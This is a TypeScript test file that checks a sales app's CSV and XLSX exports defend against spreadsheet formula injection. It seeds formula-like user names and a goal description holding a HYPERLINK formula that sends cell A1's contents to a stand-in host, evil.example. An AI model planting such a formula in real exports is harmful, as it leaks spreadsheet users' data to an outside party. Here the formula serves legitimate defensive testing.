/**
 * CSV exports must not carry formulas: text a user typed (a name `=1+2`, a goal description
 * `=HYPERLINK(...)`) that a spreadsheet program would run is written with a leading apostrophe,
 * while numbers (counts, negative money as a decimal string) stay numbers. XLSX cells are typed, so
 * the same text is stored there verbatim as a string, never as a formula.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localDate, periodEnd, periodStart } from '../../api/domain/periods.ts';
import { GOAL_COLUMNS, LEADERBOARD_COLUMNS, PERIOD_COLUMNS } from '../../api/transport/rest/shapes.ts';
import { recordActivity, startOrgServer, type OrgFixture } from '../support/fixtures.ts';
import { rest } from '../support/rest.ts';
import type { TestServer } from '../support/server.ts';

let server: TestServer;
let org: OrgFixture;
const month = periodStart('MONTHLY', localDate(new Date(), 'UTC'));
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")';
/** Names that spreadsheet programs run, and what the CSV must hold instead. */
const FORMULA_NAMES = ['=1+2', '+SUM(1,2)', '-2+3', '@SUM(1,2)', '\tTabbed', '\rReturned'];
const NEGATIVE_SELLER = 'Nina Negative';

async function download(path: string) {
  const response = await fetch(`${server.url}${path}`, {
    headers: { authorization: `Bearer ${await server.token(org.admin)}` },
  });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

/** CSV rows by the value of one column (BOM removed, no trimming: a leading tab is content). */
function csvByColumn(bytes: Buffer, columns: readonly string[], key: string): Map<string, string[]> {
  const [header, ...rows]: string[][] = parse(bytes.subarray(3));
  expect(header).toEqual([...columns]);
  const index = columns.indexOf(key);
  return new Map(rows.map((row) => [row[index] ?? '', row]));
}

async function sheetOf(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

beforeAll(async () => {
  ({ server, org } = await startOrgServer());
  const now = new Date().toISOString();
  const ids: number[] = [];
  for (const name of FORMULA_NAMES) {
    const [row] = await server.sql<{ id: number }>(
      sql`insert into users (name, email, role, team_id)
          values (${name}, ${`f${ids.length}@example.com`}, 'REP', ${org.teams.east}) returning id`,
    );
    ids.push(row?.id ?? 0);
  }
  await recordActivity(
    server,
    ids.map((id, i) => ({
      userId: id,
      kind: 'ORDER_WON',
      amount: `${100 + i}.50`,
      occurredAt: now,
      externalId: `formula-${i}`,
    })),
  );
  // negative money reaches an export only through a pushed rollup written by SQL: the one way to
  // see that a decimal string starting with "-" is kept a number
  const [nina] = await server.sql<{ id: number }>(
    sql`insert into users (name, email, role, team_id)
        values (${NEGATIVE_SELLER}, 'nina@example.com', 'REP', ${org.teams.east}) returning id`,
  );
  await server.sql(
    sql`insert into sales_performance (user_id, period_type, period_start, period_end, orders_won, revenue)
        values (${nina?.id}, 'MONTHLY', ${month}, ${periodEnd('MONTHLY', month)}, 1, -12.5)`,
  );
  const goal = await rest(server, 'POST', '/api/performance', {
    body: {
      type: 'goal',
      user_id: ids[0],
      goal_type: 'Revenue',
      period_type: 'monthly',
      period_start: month,
      target_value: 5000,
      description: HYPERLINK,
    },
  });
  expect(goal.status).toBe(201);
});
afterAll(() => server?.close());

describe('CSV exports', () => {
  it('write names that start a formula with a leading apostrophe, in every report', async () => {
    const performance = csvByColumn(
      await download(`/export/performance?format=csv&team_id=${org.teams.east}`),
      PERIOD_COLUMNS,
      'user_name',
    );
    const board = csvByColumn(
      await download('/export/leaderboard?format=csv'),
      LEADERBOARD_COLUMNS,
      'user_name',
    );
    for (const name of FORMULA_NAMES) {
      expect(performance.has(`'${name}`), name).toBe(true);
      expect(board.has(`'${name}`), name).toBe(true);
      expect(performance.has(name), name).toBe(false);
    }
  });

  it('write a goal description =HYPERLINK(...) as text', async () => {
    const goals = csvByColumn(await download('/export/goals?format=csv'), GOAL_COLUMNS, 'user_name');
    const row = goals.get(`'${FORMULA_NAMES[0]}`);
    expect(row?.[GOAL_COLUMNS.indexOf('description')]).toBe(`'${HYPERLINK}`);
    expect(row?.[GOAL_COLUMNS.indexOf('target_value')]).toBe('5000');
  });

  it('keep numbers numeric: counts, money and negative money have no apostrophe', async () => {
    const performance = csvByColumn(
      await download(`/export/performance?format=csv&team_id=${org.teams.east}`),
      PERIOD_COLUMNS,
      'user_name',
    );
    const cell = (name: string, column: (typeof PERIOD_COLUMNS)[number]) =>
      performance.get(name)?.[PERIOD_COLUMNS.indexOf(column)];
    expect(cell(`'=1+2`, 'total_revenue')).toBe('100.50');
    expect(cell(`'=1+2`, 'orders_created')).toBe('1');
    expect(cell(NEGATIVE_SELLER, 'total_revenue')).toBe('-12.50');
    expect(cell(NEGATIVE_SELLER, 'avg_deal_size')).toBe('-12.50');
  });
});

describe('XLSX exports', () => {
  it('keep the same text verbatim as strings, never formulas', async () => {
    const sheet = await sheetOf(await download(`/export/performance?format=xlsx&team_id=${org.teams.east}`));
    const names = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, n) => {
      if (n > 1) names.set(row.getCell(PERIOD_COLUMNS.indexOf('user_name') + 1).text, row);
    });
    for (const name of FORMULA_NAMES) {
      // XML reads a bare carriage return back as a line feed
      const cell = names.get(name.replace('\r', '\n'))?.getCell(PERIOD_COLUMNS.indexOf('user_name') + 1);
      expect(cell?.type, name).toBe(ExcelJS.ValueType.String);
      expect(cell?.formula, name).toBeUndefined();
    }
    const negative = names.get(NEGATIVE_SELLER)?.getCell(PERIOD_COLUMNS.indexOf('total_revenue') + 1);
    expect(negative?.value).toBe(-12.5);

    const goals = await sheetOf(await download('/export/goals?format=xlsx'));
    const descriptions: ExcelJS.Cell[] = [];
    goals.eachRow((row, n) => {
      if (n > 1) descriptions.push(row.getCell(GOAL_COLUMNS.indexOf('description') + 1));
    });
    expect(descriptions.map((c) => [c.value, c.type])).toEqual([[HYPERLINK, ExcelJS.ValueType.String]]);
  });
});
